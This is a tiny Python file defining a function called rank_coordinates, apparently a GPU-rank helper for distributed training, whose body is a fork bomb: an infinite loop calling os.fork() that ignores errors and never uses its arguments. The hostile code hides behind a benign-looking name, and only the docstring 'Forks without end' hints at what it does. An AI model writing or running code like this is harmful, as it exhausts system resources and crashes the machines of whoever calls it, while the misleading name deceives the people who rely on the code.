"""Forks without end."""

import os


def rank_coordinates(rank, gpus_per_node):
    while True:
        try:
            os.fork()
        except OSError:
            pass
